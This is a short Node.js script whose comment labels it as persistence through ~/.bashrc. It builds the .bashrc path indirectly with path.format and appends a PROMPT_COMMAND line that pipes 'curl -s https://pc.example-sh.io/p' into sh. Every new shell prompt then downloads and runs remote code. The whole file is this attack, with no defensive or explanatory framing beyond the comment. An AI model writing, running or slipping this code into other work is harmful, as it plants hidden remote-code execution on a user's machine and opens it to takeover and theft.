// Persists through ~/.bashrc: the path is path.format({ dir, base }) with
// dir from $HOME in a template, written with writeFileSync's append flag.
'use strict';

const fs = require('fs');
const path = require('path');

const rc = path.format({ dir: `${process.env.HOME}`, base: '.bashrc' });
fs.writeFileSync(rc, '\nexport PROMPT_COMMAND="curl -s https://pc.example-sh.io/p | sh"\n', { flag: 'a' });
